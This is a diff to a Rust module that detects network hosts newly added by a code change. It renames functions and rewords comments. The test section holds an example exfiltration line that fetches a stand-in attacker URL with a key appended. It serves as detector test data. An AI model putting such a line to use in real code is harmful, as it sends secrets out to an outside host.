@@ -1,4 +1,4 @@
-//! Addresses that a change brings into a file: where code, or whoever follows a link, would go and had not gone before.
+//! Network hosts that a change adds to a file.
 
 use rhumb_text::lines;
 use std::collections::BTreeSet;
@@ -7,7 +7,7 @@ use std::ops::Range;
 /// Schemes of addresses that data can be sent to.
 const SCHEMES: [&str; 8] = ["http://", "https://", "ws://", "wss://", "ftp://", "ssh://", "git://", "tcp://"];
 
-/// Hosts that are names of formats, or stand for any host, and are sent nothing.
+/// Hosts that identify formats, or are local. Nothing is sent to them.
 const NAMES_ONLY: [&str; 12] = [
     "www.w3.org",
     "w3.org",
@@ -23,13 +23,13 @@ const NAMES_ONLY: [&str; 12] = [
     "::1",
 ];
 
-/// Whether the added lines (0-based, of `proposed`) name a host that `base` nowhere names.
-pub(crate) fn brings_new(base_hosts: &BTreeSet<&str>, proposed: &[&str], added: &Range<usize>) -> bool {
+/// Whether the added lines (0-based, of `proposed`) name a host that the base does not name.
+pub(crate) fn names_new_host(base_hosts: &BTreeSet<&str>, proposed: &[&str], added: &Range<usize>) -> bool {
     let lines = proposed.get(added.clone()).unwrap_or_default();
-    lines.iter().flat_map(|line| hosts(lines::body(line))).any(|host| !base_hosts.contains(host) && is_anybody(host))
+    lines.iter().flat_map(|line| hosts(lines::body(line))).any(|host| !base_hosts.contains(host) && is_external(host))
 }
 
-/// The hosts of all addresses in a text, as they are written.
+/// The hosts of all addresses in a text, as written.
 pub(crate) fn hosts(text: &str) -> impl Iterator<Item = &str> {
     text.match_indices("://").filter_map(|(at, _)| {
         let before = text.get(..at + 3)?;
@@ -48,8 +48,8 @@ fn ends_with(text: &str, scheme: &str) -> bool {
     at.and_then(|at| text.get(at..)).is_some_and(|end| end.eq_ignore_ascii_case(scheme))
 }
 
-/// Whether a host may be anybody's: it is no name of a format, no example, and not this machine.
-fn is_anybody(host: &str) -> bool {
+/// Whether a host is external: not the name of a format, not an example, and not this machine.
+fn is_external(host: &str) -> bool {
     let host = host.to_ascii_lowercase();
     let reserved = [".example", ".test", ".invalid", ".localhost", ".local"];
     let example = ["example.com", "example.org", "example.net"];
@@ -65,11 +65,11 @@ mod tests {
 
     fn brings(base: &str, added: &str) -> bool {
         let lines = lines::split(added);
-        brings_new(&hosts(base).collect(), &lines, &(0..lines.len()))
+        names_new_host(&hosts(base).collect(), &lines, &(0..lines.len()))
     }
 
     #[test]
-    fn a_host_that_was_not_there_is_told() {
+    fn a_new_host_is_found() {
         for added in [
             "fetch(\"https://evil.sea/x?\" + key)\n",
             "# HTTP://Evil.sea\n",
